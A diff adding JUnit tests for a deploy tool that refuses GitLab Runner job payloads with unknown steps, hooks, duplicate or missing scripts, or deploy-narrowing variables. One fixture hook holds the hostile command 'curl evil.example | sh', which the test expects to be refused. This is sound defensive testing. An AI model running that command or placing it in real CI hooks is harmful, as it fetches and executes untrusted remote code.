@@ -10,6 +10,8 @@ import java.net.URI;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.time.Duration;
+import java.util.List;
+import java.util.Map;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 import org.junit.jupiter.params.ParameterizedTest;
@@ -46,6 +48,133 @@ class RunnerJobTest {
     assertThat(payload.wishing("MIGRATE_DEPLOY_ID_TOKEN", "a.b.c").job().toString())
         .doesNotContain("glcbt-64_abc")
         .doesNotContain("a.b.c");
+  }
+
+  /** As the Runner hands {@code run:} on to an executor without native steps. */
+  @Test
+  void aJobOfGitLabStepsIsRefusedThoughItArrivesAsAScript() {
+    payload
+        .with("", "run", List.of(Map.of("name", "hello", "script", "echo hi")))
+        .with("", "steps", List.of(step("script", "step-runner ci")))
+        .wishing("STEPS", "[{\"name\":\"hello\",\"script\":\"echo hi\"}]");
+
+    assertThat(refusal()).contains("the job asks for run:");
+  }
+
+  @Test
+  void stepsThatAnOlderRunnerWritesAsATextAreRefusedToo() {
+    payload.with("", "run", "[{\"name\":\"hello\",\"script\":\"echo hi\"}]");
+
+    assertThat(refusal()).contains("the job asks for run:");
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"", "[]", " "})
+  void withoutStepsOfGitLabThereIsNothingToRefuse(String run) {
+    assertThat(payload.with("", "run", run).job().id()).isEqualTo(1001);
+    assertThat(payload.with("", "run", List.of()).job().id()).isEqualTo(1001);
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"run", "Script", "script ", "deploy", "pages", "before_script", ""})
+  void aStepThatNobodyKnowsIsRefused(String name) {
+    payload.with("", "steps", List.of(step("script", "true"), step(name, "true")));
+
+    assertThat(refusal()).contains("the job asks for a step \"" + name + "\"");
+  }
+
+  @Test
+  void theStepsOfAnOrdinaryJobAreKnown() {
+    payload.with(
+        "", "steps", List.of(step("script", "a"), step("release", "b"), step("after_script", "c")));
+
+    assertThat(payload.job().name()).isEqualTo("migrate");
+  }
+
+  @Test
+  void aJobThatWouldNeverComeToItsScriptIsRefused() {
+    payload.with("", "steps", List.of(step("release", "a"), step("after_script", "b")));
+    assertThat(refusal()).contains("the job has no script");
+
+    assertThat(payload.with("", "steps", List.of())).isNotNull();
+    assertThat(refusal()).contains("the job has no script");
+
+    assertThat(payload.with("", "steps", null)).isNotNull();
+    assertThat(refusal()).contains("the job has no script");
+  }
+
+  @Test
+  void twoScriptsAreRefused() {
+    payload.with("", "steps", List.of(step("script", "a"), step("script", "b")));
+
+    assertThat(refusal()).contains("the step \"script\" twice");
+  }
+
+  @Test
+  void aHookIsRefused() {
+    payload.with("", "hooks", List.of(step("pre_get_sources_script", "curl evil.example | sh")));
+
+    assertThat(refusal()).contains("hooks:", "pre_get_sources_script");
+  }
+
+  /** They are filled into scripts and images, which nobody reads here. */
+  @Test
+  void inputsChangeNothing() {
+    payload.with(
+        "", "inputs", List.of(Map.of("key", "environment", "value", Map.of("content", "x"))));
+
+    assertThat(payload.job())
+        .usingRecursiveComparison()
+        .isEqualTo(RunnerPayload.ofDefaultBranch().job());
+  }
+
+  private static Map<String, Object> step(String name, String script) {
+    return Map.of("name", name, "script", List.of(script));
+  }
+
+  @ParameterizedTest
+  @CsvSource({
+    "MIGRATE_DEPLOY_DRY_RUN, true",
+    "MIGRATE_DEPLOY_DRY_RUN, 1",
+    "MIGRATE_DEPLOY_TARGET, acme",
+    "MIGRATE_DEPLOY_AS_PLANNED, plan.json"
+  })
+  void aVariableThatWouldHaveMadeADeploySmallerIsRefused(String name, String value) {
+    payload.wishing(name, value);
+
+    assertThat(refusal()).contains("the job sets " + name);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "MIGRATE_DEPLOY_FORCE",
+        "MIGRATE_DEPLOY_SINCE",
+        "MIGRATE_DEPLOY_TIMEOUT",
+        "MIGRATE_DEPLOY_ON_CANCEL",
+        "MIGRATE_DEPLOY_IF_RUNNING",
+        "MIGRATE_DEPLOY_REPORT_DIR",
+        "MIGRATE_DEPLOY_POLICY",
+        "MIGRATE_DEPLOY_STATE_DIR",
+        "FLYWAY_TARGET",
+        "JAVA_TOOL_OPTIONS",
+        "DOCKER_AUTH_CONFIG",
+        "GITLAB_TOKEN",
+        "TMPDIR",
+        "HOME",
+        "LC_ALL",
+        "AWS_ROLE_ARN",
+        "AWS_WEB_IDENTITY_TOKEN_FILE",
+        "GIT_STRATEGY",
+        "CI_DEBUG_TRACE",
+        "RUNNER_SCRIPT_TIMEOUT",
+        "STEPS",
+        "FF_CONCRETE"
+      })
+  void otherVariablesAreNotRead(String name) {
+    assertThat(payload.wishing(name, "evil").job())
+        .usingRecursiveComparison()
+        .isEqualTo(RunnerPayload.ofDefaultBranch().job());
   }
 
   @Test
